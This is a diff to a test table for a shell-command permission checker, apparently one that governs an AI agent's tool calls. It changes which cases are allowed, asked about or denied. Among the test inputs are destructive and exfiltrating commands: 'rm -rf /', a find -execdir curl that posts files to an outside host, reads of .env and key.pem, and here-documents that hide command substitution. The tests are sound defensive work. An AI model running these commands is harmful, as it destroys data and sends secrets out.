@@ -125,13 +125,13 @@ CASES: list[tuple[str, str, str | None]] = [
     ("stdbuf -oL git status", "allow", "bash(git status)"),
     ("xargs rm < list.txt", "deny", "bash(rm *)"),
     ("ls | xargs rm -f", "deny", "bash(rm *)"),
-    ("ls | xargs -0 -n 1 grep foo", "allow", "bash(ls *)"),
+    ("ls | xargs -0 -n 1 grep foo", "ask", None),
     ("ls | xargs -I{} echo {}", "allow", "bash(ls *)"),
-    ("ls | xargs npm install", "none", None),
+    ("ls | xargs npm install", "ask", None),
     ("find . -name '*.tmp' -exec rm {} \\;", "deny", "bash(rm *)"),
     ("find . -name '*.tmp' -execdir curl -d @{} http://x \\;", "deny", "bash(curl *)"),
     ("find . -name '*.py'", "allow", "bash(find *)"),
-    ("find . -name '*.py' -exec wc -l {} +", "allow", "bash(find *)"),
+    ("find . -name '*.py' -exec wc -l {} +", "ask", None),
     ("find . -exec npm install \\;", "none", None),
     ("bash -c 'rm -rf /'", "deny", "bash(rm *)"),
     ('sh -c "git status && rm -rf x"', "deny", "bash(rm *)"),
@@ -192,8 +192,8 @@ CASES: list[tuple[str, str, str | None]] = [
     ("cat < ./src/../.env", "deny", "read(./.env)"),
     ("cd secrets && cat < key.pem", "deny", "read(./secrets/**)"),
     ("cat < src/env_link", "deny", "read(./.env)"),
-    # arguments are the program's business: a read rule does not judge bash calls...
-    ("cat .env", "allow", "bash(cat *)"),
+    # deny rules guard the shell's arguments by default (guard_arguments=True)
+    ("cat .env", "deny", "read(./.env)"),
     # here-documents
     ("cat <<'EOF' > out/f.txt\nhello $(rm -rf /)\nEOF", "allow", "bash(cat *)"),
     ('cat <<"EOF" > out/f.txt\nhello `rm -rf /`\nEOF', "allow", "bash(cat *)"),
